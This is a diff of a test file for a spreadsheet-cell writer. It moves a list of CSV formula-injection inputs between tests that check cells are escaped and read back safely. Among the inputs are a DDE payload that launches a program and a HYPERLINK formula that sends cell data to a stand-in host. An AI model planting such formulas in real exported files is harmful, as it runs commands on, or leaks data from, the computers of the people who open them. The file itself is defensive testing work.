@@ -98,34 +98,6 @@ describe('reads back any cells, however cut', () => {
 })
 
 describe('a cell that a spreadsheet would execute', () => {
-  const attacks = [
-    ...['=1+1', '=cmd|’/C calc’!A0', '=HYPERLINK("http://x.example?"&A1,"x")', '+1+1', '-1+1', '@SUM(1)'],
-    ...[
-      '\t=1+1',
-      '\r=1+1',
-      '\n=1+1',
-      '+',
-      '-',
-      '=',
-      '@',
-      '+49-171-2345678',
-      '+1234',
-      '+1234567890123456',
-      '-5',
-    ],
-  ]
-  test.each(attacks)('escapes %j and reads it back', (text) => {
-    const written = writeCell(text)
-    const seen = written.slice(1, -1).replaceAll('""', '"')
-    expect(isHarmless(seen)).toBe(true)
-    expect(seen).toBe(`''${text}`)
-    expect(readCell(seen)).toBe(text)
-  })
-
-  test('keeps a number with its plus', () => {
-    expect(writeCell('+491711234567')).toBe('"+491711234567"')
-  })
-
   test.each([
     "'",
     "''",
@@ -177,7 +149,20 @@ test('writes every row once, in pieces', () => {
 })
 
 test.each([
-  '=1+1',
+  ...['=1+1', '=cmd|’/C calc’!A0', '=HYPERLINK("http://x.example?"&A1,"x")', '+1+1', '-1+1', '@SUM(1)'],
+  ...[
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '+',
+    '-',
+    '=',
+    '@',
+    '+49-171-2345678',
+    '+1234',
+    '+1234567890123456',
+    '-5',
+  ],
   '\uFEFF=1+1',
   '  =1+1',
   '\u200b@SUM(A1)',
